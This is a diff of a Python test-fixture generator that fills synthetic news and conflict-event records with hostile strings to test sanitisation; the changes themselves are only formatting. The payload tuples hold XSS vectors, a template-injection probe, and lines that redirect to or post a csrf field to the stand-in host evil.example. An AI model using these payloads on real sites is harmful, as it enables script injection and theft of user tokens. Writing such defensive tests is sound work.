@@ -12,18 +12,18 @@ COUNT = 1_000
 # Each would set ``window.obeyed``, open a dialog, or ask another machine, if it were anything but text.
 PAYLOADS = (
     "<script>window.obeyed=1</script>",
-    "<img src=x onerror=\"window.obeyed=1\">",
+    '<img src=x onerror="window.obeyed=1">',
     "<svg/onload=window.obeyed=1>",
-    "\"><script>window.obeyed=1</script>",
+    '"><script>window.obeyed=1</script>',
     "' onmouseover='window.obeyed=1' autofocus onfocus='window.obeyed=1",
     "javascript:window.obeyed=1",
     "</title></textarea></style></script><script>window.obeyed=1</script>",
-    "<iframe srcdoc=\"<script>parent.obeyed=1</script>\"></iframe>",
+    '<iframe srcdoc="<script>parent.obeyed=1</script>"></iframe>',
     "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{% endfor %}",
     "${window.obeyed=1}`${alert(1)}`",
-    "<a href=\"javascript:window.obeyed=1\" hx-get=\"/logout\" hx-trigger=\"load\">x</a>",
-    "<div hx-on:load=\"window.obeyed=1\" hx-get=\"http://evil.example/\" hx-trigger=\"load\"></div>",
-    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
+    '<a href="javascript:window.obeyed=1" hx-get="/logout" hx-trigger="load">x</a>',
+    '<div hx-on:load="window.obeyed=1" hx-get="http://evil.example/" hx-trigger="load"></div>',
+    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
     "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example/'</style>",
     "<base href=http://evil.example/><form action=http://evil.example/><input name=csrf>",
     "<math><mtext><table><mglyph><style><img src=x onerror=window.obeyed=1>",
@@ -39,7 +39,7 @@ PAYLOADS = (
 ADDRESSES = (
     "javascript:window.obeyed=1",
     "data:text/html,<script>window.obeyed=1</script>",
-    "https://news.example/a\" onclick=\"window.obeyed=1",
+    'https://news.example/a" onclick="window.obeyed=1',
     "https://news.example/<script>window.obeyed=1</script>",
     "vbscript:x",
     "//evil.example/x",
@@ -66,12 +66,18 @@ def hostile(count: int = COUNT, seed: int = 11) -> Iterator[Record]:
         given = draft.proposal("ceasefire", by=(one,), duration="P7D", put_forward=day, words=bad())
         draft.position(two, given, chance.choice(("accepts", "rejects")), day, words=bad())
         draft.time(day, day)
-        draft.event("CONSULT", "meeting", source=(one,), target=(two,), time="t1", place=draft.place(bad()), words=bad())
+        draft.event(
+            "CONSULT", "meeting", source=(one,), target=(two,), time="t1", place=draft.place(bad()), words=bad()
+        )
         where = draft.place(bad(), "MDA", (47.0, 28.9))
         draft.event("ASSAULT", "shelling", source=(one,), time="t1", place=where, words=bad())
         draft.statement(two, bad())
         record = draft.record()
         document = record.document.model_copy(
-            update={"title": bad(), "url": f"{chance.choice(ADDRESSES)}{number}", "kind": chance.choice(("news", "readout"))}
+            update={
+                "title": bad(),
+                "url": f"{chance.choice(ADDRESSES)}{number}",
+                "kind": chance.choice(("news", "readout")),
+            }
         )
         yield record.model_copy(update={"document": document})
